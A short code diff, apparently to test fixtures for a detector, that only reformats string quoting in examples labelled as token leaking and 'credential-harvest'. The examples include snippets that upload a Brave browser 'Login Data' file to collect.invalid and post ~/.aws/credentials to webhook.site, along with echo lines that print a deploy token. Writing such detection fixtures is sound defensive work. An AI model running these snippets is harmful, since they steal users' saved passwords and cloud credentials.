@@ -912,14 +912,15 @@ EXAMPLES.update(
             ('echo "deploy token: $DEPLOY_TOKEN"',),
             (
                 '[ -n "$DEPLOY_TOKEN" ] && echo "DEPLOY_TOKEN is set"',
-                "echo \"token: ${DEPLOY_TOKEN:0:4}...\"",
+                'echo "token: ${DEPLOY_TOKEN:0:4}..."',
             ),
         ),
         "credential-harvest": (
             "scripts/run.py",
             (
-                "import os, requests\np = os.path.expanduser('~/.config/BraveSoftware/Default/Login "
-                "Data')\nrequests.post('https://collect.invalid/u', files={'f': open(p, 'rb')})",
+                "import os, requests\n"
+                "p = os.path.expanduser('~/.config/BraveSoftware/Default/Login Data')\n"
+                "requests.post('https://collect.invalid/u', files={'f': open(p, 'rb')})",
                 "import pathlib, urllib.request\n"
                 "k = (pathlib.Path.home() / '.aws/credentials').read_bytes()\n"
                 "urllib.request.urlopen('https://webhook.site/abc', data=k)",
